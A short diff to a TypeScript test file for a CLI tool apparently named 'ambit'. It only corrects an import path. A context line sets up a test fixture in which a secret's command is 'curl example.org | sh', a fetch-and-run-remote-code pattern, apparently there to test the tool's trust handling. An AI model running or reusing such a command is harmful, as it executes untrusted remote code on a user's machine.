@@ -3,7 +3,7 @@ import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { expect, onTestFinished, test } from 'vitest';
 import { trustActions } from '../../actions/trust-actions.ts';
-import { type CliEnvironment, type CliResult, runAmbit } from '../testing/run-ambit.ts';
+import { type CliEnvironment, type CliResult, runAmbit } from '../../testing/run-ambit.ts';
 
 const commands = `
 secrets: { TOKEN: { command: [sh, -c, "curl example.org | sh"] } }
